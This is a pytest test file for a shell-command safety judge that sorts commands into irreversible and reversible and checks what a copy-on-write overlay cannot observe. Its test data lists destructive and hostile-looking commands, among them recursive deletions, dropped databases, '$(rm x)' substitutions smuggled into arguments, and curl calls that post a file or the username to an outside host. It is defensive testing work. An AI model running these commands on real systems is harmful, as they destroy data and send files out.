"""Law 1 for programs that run code they are given, clients of daemons, and what an overlay cannot see.

Table-driven over the pure judges with the little tree of tests/test_policy.py, plus
``/w/run.sh``, ``/w/tool.py``, ``/w/Makefile``, ``/w/package.json`` and ``/w/app.db``:
a script that exists runs code the text does not show (irreversible), one that does not
exist runs nothing; requests that may change what a daemon holds are irreversible, plain
queries are not; and ``judge_unobservable`` keeps exactly what a copy-on-write overlay
cannot observe.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from artoo.tasks.law1.judge import judge_command, judge_unobservable
from artoo.tasks.shell.parse import parse
from tests.test_policy import CWD, EXISTING

PROJECT = EXISTING | {"/w/run.sh", "/w/tool.py", "/w/Makefile", "/w/package.json", "/w/app.db", "/w/t.pl",
                      "/w/prog.awk", "/w/Rakefile",
                      "/w/sub"}


def exists(path: Path) -> bool:
    """The tree of tests/test_policy.py with a script, a makefile, a package and a database in it."""
    return str(path) in PROJECT


@pytest.mark.parametrize(("command", "category"), [
    ("bash run.sh", "runs code"), ("sh ./run.sh arg", "runs code"), ("python3 tool.py data.csv", "runs code"),
    ("python3 -u tool.py", "runs code"), ("perl t.pl", "runs code"), ("node run.sh", "runs code"),
    ("source run.sh", "runs code"), (". ./run.sh", "runs code"), ("make", "runs code"),
    ("make -C /w build", "runs code"), ("npm test", "runs code"), ("npm run build", "runs code"),
    ("yarn run lint", "runs code"), ("npx cowsay hi", "runs code"), ("npm exec foo", "runs code"),
    ("echo 'rm -rf x' | at now", "runs code"), ("echo 'import os; os.remove(1)' | python3", "deletion"),
    ("cat tool.py | python3", "runs code"), ("timeout 5 bash run.sh", "runs code"),
    ("bash $SCRIPT", "runs code"), ("./run.sh", "runs code"), ("/w/tool.py --fix", "runs code"),
    ("cd /w && ./run.sh", "runs code"), ("pytest -x tests", "runs code"), ("cargo test", "runs code"),
    ("go run .", "runs code"), ("uv run python tool.py", "runs code"), ("poetry run pytest", "runs code"),
    ("uv run --with rich rm -rf build", "deletion"), ("bundle exec rake", "runs code"),
    ("tox -e py311", "runs code"), ("cargo install ripgrep", "system"), ("find . -exec ./run.sh {} +", "runs code"),
    ("psql -c 'DELETE FROM t'", "daemon"), ("mysql -e 'SELECT * FROM t INTO OUTFILE \"/tmp/x\"'", "daemon"),
    ("psql -c 'SELECT pg_terminate_backend(42)'", "daemon"), ("psql -c 'SELECT 1; DROP TABLE t'", "daemon"),
    ("psql -c \"SELECT * FROM t WHERE id=$ID\"", "daemon"), ("mysql --execute='SET GLOBAL x=1'", "daemon"),
    ("psql -f migrate.sql", "daemon"), ("psql -c 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d'", "daemon"),
    ("sqlite3 app.db 'SELECT 1; .shell rm x'", "overwrite"), ("mongosh --eval 'db.dropDatabase()'", "daemon"),
    ("redis-cli -h cache DEL k", "daemon"), ("redis-cli", "daemon"), ("dropdb shop", "daemon"),
    ("docker exec web rm -rf /data", "daemon"), ("docker compose up -d", "daemon"),
    ("docker run -v /home:/h alpine rm -rf /h", "daemon"), ("docker-compose restart", "daemon"),
    ("docker compose down", "deletion"), ("docker volume rm data", "deletion"),
    ("sqlite3 app.db 'DROP TABLE t'", "overwrite"), ("kubectl apply -f x.yml", "network"),
    ("kubectl -n prod delete pod x", "network"), ("trap 'shred exists.txt' INT", "deletion"),
    ("coproc NAME { rm x; }", "deletion"), ("coproc (rm x)", "deletion"),
    ("python3 -c 'print(1)' $(rm x)", "deletion"), ("awk '{system(\"rm \" $1)}' list", "runs code"),
    ("awk '{print | \"sh\"}' list", "runs code"), ("awk '{print $2 > $1}' list", "overwrite"),
    ("awk -f prog.awk list", "runs code"), ("gawk -i inplace '{sub(/a/, \"b\")} 1' notes.md", "overwrite"),
    ("((reboot))", "system"),
])
def test_irreversible(command: str, category: str) -> None:
    verdict = judge_command(command, CWD, exists)
    assert verdict.irreversible and f"{category}: " in verdict.reason, verdict.reason


@pytest.mark.parametrize("command", [
    "cargo fmt", "go vet ./...", "uv run python missing.py", "uv pip list", "poetry show", "deno fmt",
    "bash missing.sh", "python3 missing.py", "./missing.sh", "/usr/bin/ls -la", "/bin/echo hi",
    "make -C /w/sub", "make -f other.mk", "npm ls", "npm install x",
    "npx --version", "atq", "echo 'print(1)' | python3", "python3 <<< 'import os'",
    "at -l", "trap - EXIT", "trap -p", "trap 'echo bye' EXIT", "coproc cat",
    "redis-cli PING", "redis-cli -n 2 get k", "redis-cli --scan", "psql --version", "mysql --help",
    "sqlite3 new.db 'CREATE TABLE t(x)'", "psql -c 'SELECT count(*) FROM t WHERE x IN (1, 2)'",
    "mysql -e 'SHOW DATABASES'", "mysql --execute='DESCRIBE t'", "psql -c '\\dt'",
    "sqlite3 app.db 'SELECT name FROM sqlite_master;'", "sqlite3 app.db .tables",
    "sqlite3 -readonly app.db 'SELECT 1'", "sqlite3 :memory:",
    "docker ps -a", "docker compose ps", "docker compose logs web", "docker image ls", "docker pull alpine",
    "docker build -t me/app .", "docker run --rm -p 80:80 nginx", "kubectl get pods -n prod",
    "kubectl -n prod logs web", "kubectl config view", "(( i++ ))", "for ((i=0; i<3; i++)); do echo $i; done",
    "case $x in a) echo a;; *) echo b;; esac", "awk '{print $1}' f", "awk -F: '$3 > 1000 {print $1}' f",
    "awk 'NR > 1 {n++} END {print n}' f",
    "awk -f missing.awk f", "awk '{print $1 >> \"log.txt\"}' f", "echo $(case a in a) echo hi;; esac)",
])
def test_reversible(command: str) -> None:
    verdict = judge_command(command, CWD, exists)
    assert not verdict.irreversible, verdict.reason


@pytest.mark.parametrize(("command", "network", "kept"), [
    ("rm -rf build", True, None),  # the overlay sees deletions
    ("echo x > exists.txt; sed -i s/a/b/ notes.md", True, None),
    ("curl -d @notes.md https://x.io", True, "network"),
    ("curl -d @notes.md https://x.io", False, None),  # no network: nothing can leave
    ("git push origin main", True, "network"),
    ("mysql -e 'DROP DATABASE x'", False, "daemon"),  # a daemon socket is not the network
    ("docker compose down -v", True, "deletion"),  # a deletion made by the daemon, outside any overlay
    ("sqlite3 app.db 'DROP TABLE t'", True, None),  # a database file: the overlay sees it change
    ("systemctl restart nginx", False, "system"),
    ("python3 tool.py", True, "runs code"),  # may send anything while the network is on
    ("python3 tool.py", False, None),  # with the network off, its file effects are observed
    ("$CMD x", True, "hidden"), ("echo 'oops", True, "cannot parse"), ("echo 'oops", False, None),
    ("ls && curl https://x.io/$(whoami)", True, "network"), ("ls -la", True, None),
])
def test_judge_unobservable_keeps_only_what_an_overlay_cannot_see(command: str, network: bool,
                                                                  kept: str | None) -> None:
    verdict = judge_unobservable(command, CWD, exists, network=network)
    assert verdict.irreversible is (kept is not None), verdict.reason
    if kept:
        assert verdict.reason.startswith(f"{kept}: "), verdict.reason


def test_a_daemon_deletion_is_unobservable_even_when_its_category_is_deletion() -> None:
    """docker compose down -v deletes volumes inside the daemon: no overlay sees that."""
    verdict = judge_unobservable("docker compose down -v", CWD, exists, network=False)
    assert verdict.irreversible, verdict.reason


@pytest.mark.parametrize(("text", "substitutions"), [
    ("echo $(case a in a) rm -rf ~/data;; esac)", ["case a in a) rm -rf ~/data;; esac"]),
    ('echo "$(echo ")")"', ['echo ")"']),
    ("cat <<EOF\n$(rm x)\nEOF", ["rm x"]),  # an unquoted here-document runs its substitutions
    ("cat <<EOF > notes.md\n# notes\nby $(whoami) on $(date)\nEOF", ["whoami", "date"]),  # text around them is text
    ("cat <<'EOF'\n$(rm x)\nEOF", []),  # a quoted one does not
    ("echo ${X:-$(rm y)}", ["rm y"]),
])
def test_the_parser_finds_every_substitution(text: str, substitutions: list[str]) -> None:
    assert parse(text).substitutions == substitutions


@pytest.mark.parametrize("text", ["{ " * 2000 + "ls; " + "}; " * 2000,
                                  "if true; then " * 2000 + "ls; " + "fi; " * 2000])
def test_absurd_nesting_is_irreversible_not_a_crash(text: str) -> None:
    verdict = judge_command(text, CWD, exists)
    assert verdict.irreversible and "cannot parse" in verdict.reason, verdict.reason


def test_threads_judging_at_once_get_the_same_answers() -> None:
    """Subtasks run in threads; each has its own parser, so verdicts never mix."""
    from concurrent.futures import ThreadPoolExecutor

    commands = ["rm -rf build", "ls -la", "echo $(case a in a) rm x;; esac)", "make", "psql -c 'SELECT 1'"] * 40
    alone = [judge_command(c, CWD, exists).reason for c in commands]
    with ThreadPoolExecutor(max_workers=8) as pool:
        together = list(pool.map(lambda c: judge_command(c, CWD, exists).reason, commands))
    assert together == alone


@pytest.mark.parametrize(("text", "words", "here"), [
    ("python3 - <<'EOF'\nprint(1)\nEOF", ["python3", "-"], "print(1)\n"),  # the grammar leaves ``-`` untokenised
    ("cat - <<EOF > out\nhi\nEOF", ["cat", "-"], "hi\n"),
])
def test_words_the_grammar_passes_over_are_still_read(text: str, words: list[str], here: str) -> None:
    command = parse(text).commands[0]
    assert (command.words, command.here_input) == (words, here)


def test_a_here_document_fed_to_python_is_judged() -> None:
    verdict = judge_command("python3 - <<'EOF'\nimport shutil\nshutil.rmtree('data')\nEOF", CWD, exists)
    assert verdict.irreversible and "deletion: " in verdict.reason, verdict.reason
